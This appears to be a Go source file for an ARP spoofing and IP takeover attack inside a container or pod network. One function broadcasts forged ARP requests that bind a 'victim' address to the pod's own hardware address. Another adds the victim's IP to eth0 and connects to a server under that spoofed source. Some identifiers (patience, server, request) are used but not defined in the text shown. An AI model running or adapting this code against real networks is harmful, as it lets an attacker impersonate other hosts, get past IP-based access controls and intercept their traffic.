package main

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/netip"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

const interfaceName = "eth0"

// networkOrder is a number of two bytes as the kernel takes it.
func networkOrder(n uint16) uint16 {
	return binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, n))
}

// divert lets the node send to this pod what is for the victim: who asks by ARP
// tells its own addresses with the question, RFC 826.
func divert(victim netip.Addr) error {
	link, err := netlink.LinkByName(interfaceName)
	if err != nil {
		return err
	}
	gateway, err := gatewayOf(link)
	if err != nil {
		return err
	}
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(networkOrder(unix.ETH_P_ARP)))
	if err != nil {
		return err
	}
	defer unix.Close(socket)
	own, asked := link.Attrs().HardwareAddr, gateway.As4()
	from := victim.As4()
	question := []byte{0, 1, 8, 0, 6, 4, 0, 1}
	question = append(append(question, own...), from[:]...)
	question = append(append(question, make([]byte, 6)...), asked[:]...)
	everybody := unix.SockaddrLinklayer{Protocol: networkOrder(unix.ETH_P_ARP), Ifindex: link.Attrs().Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
	if err := unix.Sendto(socket, question, 0, &everybody); err != nil {
		return err
	}
	// The answer says that the question was read.
	if err := unix.SetsockoptTimeval(socket, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1}); err != nil {
		return err
	}
	answer := make([]byte, 1500)
	for end := time.Now().Add(patience); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(socket, answer, 0)
		if err == nil && n >= 28 && answer[7] == 2 && netip.AddrFrom4([4]byte(answer[14:18])) == gateway {
			return nil
		}
	}
	return errors.New("the gateway does not answer")
}

func gatewayOf(link netlink.Link) (netip.Addr, error) {
	routes, err := netlink.RouteList(link, netlink.FAMILY_V4)
	if err != nil {
		return netip.Addr{}, err
	}
	for _, route := range routes {
		if gateway, ok := netip.AddrFromSlice(route.Gw); ok {
			return gateway.Unmap(), nil
		}
	}
	return netip.Addr{}, errors.New("no gateway")
}

// assume takes the address for its own, which takes CAP_NET_ADMIN.
func assume(victim netip.Addr) (string, error) {
	link, err := netlink.LinkByName(interfaceName)
	if err != nil {
		return "", err
	}
	address := &netlink.Addr{IPNet: &net.IPNet{IP: victim.AsSlice(), Mask: net.CIDRMask(32, 32)}}
	if err := netlink.AddrAdd(link, address); err != nil {
		return "", err
	}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(victim, 0))}
	conn, err := dialer.DialContext(ctx, "tcp", server.String())
	if err != nil {
		return "", err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		return "", err
	}
	if _, err := io.WriteString(conn, request); err != nil {
		return "", err
	}
	answer, err := io.ReadAll(io.LimitReader(conn, 1<<16))
	return string(answer), err
}
